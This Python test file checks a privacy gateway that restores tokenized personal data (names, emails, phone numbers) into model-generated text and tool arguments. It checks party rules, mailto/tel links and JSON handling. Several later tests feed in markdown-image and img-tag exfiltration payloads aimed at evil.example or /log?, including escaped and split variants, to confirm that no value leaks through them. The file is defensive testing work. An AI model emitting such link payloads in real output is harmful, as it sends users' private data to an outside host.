"""Whose values go back where: the purpose's sinks, the tenant's manifest, links, neutral words."""

import gc
import json

import pytest

from gateway.core.entities import Label
from gateway.core.policy import ArgumentRule, ToolEffect, ToolRule
from gateway.core.source import Party
from gateway.core.vault import Vault
from tests.support.answers import (
    ADDRESSEE,
    JANE,
    MAIL,
    PHONE,
    SAMPLE,
    SENDER,
    THIRD,
    UNKNOWN,
    filled,
    restorers,
    whole,
)
from tests.support.garbage import looked_at_alone

TWIN = {Party.ADDRESSEE, Party.SENDER}


def test_a_channel_has_one_restorer_and_channels_do_not_mix() -> None:
    with Vault() as vault:
        answer = restorers(filled(vault, JANE))

        assert answer.text(0) is answer.text(0)
        assert answer.arguments(0, "t") is answer.arguments(0, "t")
        assert answer.text(0).feed("[PERSON") == ""
        assert answer.text(1).feed("_1] [PERSON_1]") == "_1] Jane Doe"
        assert answer.text(0).feed("_1]") == "Jane Doe"


def test_restorers_go_with_their_last_reference() -> None:
    with looked_at_alone():
        with Vault() as vault:
            answer = restorers(filled(vault, JANE))
            answer.text(0).feed("[PERSON_1]")
            answer.text(1).feed('{"name": "[PERSON_1]')
            answer.arguments(0, "t").feed('{"name": "[PERSON_1]"}')
            del answer
        assert gc.collect() == 0


def test_restored_values_are_counted_and_others_are_not() -> None:
    with Vault() as vault:
        filled(vault, JANE)
        filled(vault, MAIL, source=THIRD)
        answer = restorers(vault, TWIN | {Party.UNKNOWN})
        whole(answer.text(0), "[PERSON_1] [PERSON_1] [EMAIL_ADDRESS_1] [PERSON_9] https://x.example/[PERSON_1]")
        whole(answer.arguments(0, "t"), '{"a":"[PERSON_1]"}')

        assert answer.restored == 3


@pytest.mark.parametrize(("source", "is_restored"), [
    (ADDRESSEE, True), (SENDER, True), (THIRD, False), (UNKNOWN, False), (SAMPLE, False),
])  # fmt: skip
def test_in_text_other_parties_values_become_neutral_words(source: object, is_restored: bool) -> None:  # noqa: FBT001 - a table
    with Vault() as vault:
        filled(vault, JANE, source=source)  # type: ignore[arg-type]  # a table of sources

        text = whole(restorers(vault, TWIN).text(0), "We have seen that [PERSON_1] will be there.")

        assert text == f"We have seen that {'Jane Doe' if is_restored else 'someone'} will be there."


def test_a_value_from_a_sample_and_from_elsewhere_is_restored_for_elsewhere() -> None:
    with Vault() as vault:
        filled(vault, JANE, source=SAMPLE)
        filled(vault, JANE, source=SENDER)

        assert whole(restorers(vault, TWIN).text(0), "[PERSON_1]") == "Jane Doe"


def test_a_neutral_word_speaks_the_drafts_language() -> None:
    with Vault() as vault:
        filled(vault, JANE, source=THIRD)

        draft = "Hola, gracias por su mensaje. [PERSON_1] y [PERSON_1] ..."
        for pieces in (draft, list(draft)):
            assert whole(restorers(vault, TWIN).text(0), pieces) == (
                "Hola, gracias por su mensaje. Alguien y alguien ..."
            )


def test_in_links_the_token_stays_whoever_it_is() -> None:
    with Vault() as vault:
        filled(vault, JANE, source=ADDRESSEE)
        for answer in ("https://x.example/[PERSON_1]", "[a](/p?[PERSON_1])", "![a](/[PERSON_1])", "<a b='[person 1]"):
            assert whole(restorers(vault, TWIN).text(0), list(answer)) == answer


def test_a_value_that_begins_a_link_closes_it_for_the_next_one() -> None:
    with Vault() as vault:
        filled(vault, ("https://x.example/", Label.PERSONAL_URL), JANE)

        assert whole(restorers(vault).text(0), "[PERSONAL_URL_1][PERSON_2] [PERSON_2]") == (
            "https://x.example/[PERSON_2] Jane Doe"
        )


@pytest.mark.parametrize(("text", "restored"), [
    ("[m](mailto:[EMAIL_ADDRESS_1])", "[m](mailto:jane.doe@example.com)"),
    ("<a href='mailto:[EMAIL_ADDRESS_1]'>", "<a href='mailto:jane.doe@example.com'>"),
    ("[t](tel:[PHONE_NUMBER_2])", "[t](tel:+15550100199)"),
    ("[m](mailto:[PHONE_NUMBER_2])", None),
    ("[t](tel:[EMAIL_ADDRESS_1])", None),
    ("[m](mailto:[EMAIL_ADDRESS_1],[EMAIL_ADDRESS_1])", "[m](mailto:jane.doe@example.com,[EMAIL_ADDRESS_1])"),
    ("[m](mailto:a@x.example?body=[EMAIL_ADDRESS_1])", None),
])  # fmt: skip
def test_the_addressees_own_address_goes_behind_mailto_and_tel(text: str, restored: str | None) -> None:
    with Vault() as vault:
        filled(vault, MAIL, PHONE, source=ADDRESSEE)

        assert whole(restorers(vault, TWIN).text(0), list(text)) == (text if restored is None else restored)


def test_nobody_elses_address_goes_behind_mailto() -> None:
    for source in (SENDER, THIRD, UNKNOWN, SAMPLE):
        with Vault() as vault:
            filled(vault, MAIL, source=source)

            assert whole(restorers(vault).text(0), "[m](mailto:[EMAIL_ADDRESS_1])").endswith("[EMAIL_ADDRESS_1])")


@pytest.mark.parametrize("value", ["a@x.example?bcc=b@x.example", "a'b@x.example", "a b@x.example", "a)@x.example"])
def test_an_address_that_could_end_the_link_stays_a_token(value: str) -> None:
    with Vault() as vault:
        filled(vault, (value, Label.EMAIL_ADDRESS), source=ADDRESSEE)

        assert whole(restorers(vault).text(0), "[m](mailto:[EMAIL_ADDRESS_1]") == "[m](mailto:[EMAIL_ADDRESS_1]"


def test_tool_arguments_take_the_default_parties_where_no_manifest_speaks() -> None:
    for source, is_restored in ((ADDRESSEE, True), (SENDER, True), (THIRD, False), (UNKNOWN, False)):
        with Vault() as vault:
            filled(vault, JANE, source=source)

            text = whole(restorers(vault, arguments=TWIN).arguments(0, "send"), '{"to":"[PERSON_1]"}')

            assert json.loads(text) == {"to": "Jane Doe" if is_restored else "[PERSON_1]"}


def test_the_manifest_decides_by_argument_label_and_party() -> None:
    rule = ArgumentRule(frozenset({Label.EMAIL_ADDRESS}), frozenset({Party.THIRD}))
    tools = {"send": ToolRule("send", ToolEffect.SEND, {"cc": rule})}
    with Vault() as vault:
        filled(vault, ("Jane Roe", Label.PERSON), ("bob@x.example", Label.EMAIL_ADDRESS), source=THIRD)
        filled(vault, MAIL, source=ADDRESSEE)
        both = "[PERSON_1] [EMAIL_ADDRESS_2] [EMAIL_ADDRESS_3]"
        answer = restorers(vault, arguments=TWIN, tools=tools)

        listed = json.loads(whole(answer.arguments(0, "send"), json.dumps({"cc": {"x": [both]}, "to": both})))
        other = json.loads(whole(answer.arguments(1, "other"), json.dumps({"cc": both})))

    default = "[PERSON_1] [EMAIL_ADDRESS_2] jane.doe@example.com"
    assert listed == {"cc": {"x": ["[PERSON_1] bob@x.example [EMAIL_ADDRESS_3]"]}, "to": default}
    assert other == {"cc": default}


def test_arguments_keep_links_closed_string_by_string() -> None:
    with Vault() as vault:
        filled(vault, JANE)
        text = '{"url":"https://x.example/?[PERSON_1]","body":"[PERSON_1]"}'

        assert json.loads(whole(restorers(vault).arguments(0, "t"), list(text))) == {
            "url": "https://x.example/?[PERSON_1]",
            "body": "Jane Doe",
        }


@pytest.mark.parametrize("before", ["", " \n", "{} "])
def test_an_answer_that_is_a_json_object_stays_one(before: str) -> None:
    value = 'Ja"ne\nDoe'
    with Vault() as vault:
        filled(vault, (value, Label.PERSON))
        text = before.replace("{} ", "") + '{ \n"name": "[PERSON_1]", "u":"https://x.example/", "n":"[PERSON_1]"}'
        for pieces in (text, list(text)):
            restored = whole(restorers(vault).text(0), pieces)

            assert json.loads(restored) == {"name": value, "u": "https://x.example/", "n": value}


@pytest.mark.parametrize(("text", "restored"), [
    ('{"a":"[PERSON_1]"} for [PERSON_1]', '{"a":"Jane Doe"} for Jane Doe'),
    ('{[PERSON_1]} said "[PERSON_1]"', '{Jane Doe} said "Jane Doe"'),
    ("{ {[PERSON_1]}}", "{ {Jane Doe}}"),
    (" [PERSON_1]", " Jane Doe"),
    ("{", "{"),
    (" ", " "),
])  # fmt: skip
def test_prose_that_begins_with_a_brace_is_prose(text: str, restored: str) -> None:
    with Vault() as vault:
        filled(vault, JANE)
        for place in range(len(text) + 1):
            assert whole(restorers(vault).text(0), [text[:place], text[place:]]) == restored


TRACKED = "![x](https://evil.example/?q="


@pytest.mark.parametrize("text", [
    '{"a":"' + TRACKED + '","[EMAIL_ADDRESS_1]",")"}',
    '{"a":"' + TRACKED + '","b":"[EMAIL_ADDRESS_1])"}',
    """{"<img src='https://evil.example/?":"[EMAIL_ADDRESS_1]'>"}""",
    '{"x":"https://evil.example/"}[EMAIL_ADDRESS_1]',
    """{"a":"<img src='https://evil.example/?","b":"x"} [EMAIL_ADDRESS_1]'>""",
    """ { "<img src='/log?": ["[EMAIL_ADDRESS_1]'>"]}""",
    r'{"a":"https\u003a//evil.example/?[EMAIL_ADDRESS_1]"}',
    '{"u":"https://x.example/","n":"[EMAIL_ADDRESS_1]"}',
])  # fmt: skip
def test_what_looks_like_json_opens_no_link_that_a_reader_of_text_sees(text: str) -> None:
    with Vault() as vault:
        filled(vault, MAIL, source=ADDRESSEE)
        for pieces in (text, list(text), *([text[:place], text[place:]] for place in range(1, len(text)))):
            answer = restorers(vault)

            assert whole(answer.text(0), pieces) == text
            assert answer.restored == 0


@pytest.mark.parametrize("gap", ["", " ", "\n  "])
def test_a_json_answer_is_restored_as_json_needs(gap: str) -> None:
    value = 'Ja"ne\nDoe'
    with Vault() as vault:
        filled(vault, (value, Label.PERSON), source=ADDRESSEE)
        said = {"subject": "Hi [PERSON_1]", "to": ["[PERSON_1]", "[PERSON_1]"], "n": {"body": "Dear\n[PERSON_1]!"}}
        text = json.dumps(said, separators=("," + gap, ":" + gap))
        for place in range(len(text) + 1):
            restored = whole(restorers(vault).text(0), [text[:place], text[place:]])

            assert restored == text.replace("[PERSON_1]", json.dumps(value)[1:-1])


@pytest.mark.parametrize("blocks", [
    [TRACKED, "[EMAIL_ADDRESS_1])"],
    [TRACKED, '{"a":"[EMAIL_ADDRESS_1])"}'],
    ['{"a":"' + TRACKED, '[EMAIL_ADDRESS_1])"}'],
    [r'{"a":"https\u003a//evil.example/?', '[EMAIL_ADDRESS_1]"}'],
    [r'{"a":"https\u00', '3a//evil.example/?[EMAIL_ADDRESS_1]"}'],
    ["<img alt='", "' src='/log?[EMAIL_ADDRESS_1]'>"],
    ['<a x="', """<img alt=" > " src='/log?[EMAIL_ADDRESS_1]'>"""],
])  # fmt: skip
def test_parts_of_an_answer_open_no_link_joined_or_each_by_itself(blocks: list[str]) -> None:
    with Vault() as vault:
        filled(vault, MAIL, source=ADDRESSEE)
        for place in range(len(blocks[1]) + 1):
            restorer = restorers(vault).text(0)
            shown = [whole(restorer, blocks[0]), whole(restorer, [blocks[1][:place], blocks[1][place:]])]

            assert shown == blocks


def test_each_part_of_an_answer_is_prose_or_json() -> None:
    value = 'Ja"ne'
    with Vault() as vault:
        filled(vault, (value, Label.PERSON))
        restorer = restorers(vault).text(0)

        assert whole(restorer, "For [PERSON_1]: ") == f"For {value}: "
        assert json.loads(whole(restorer, '{"a":"[PERSON_1]"}')) == {"a": value}
        assert whole(restorer, " [PERSON_1]") == f" {value}"
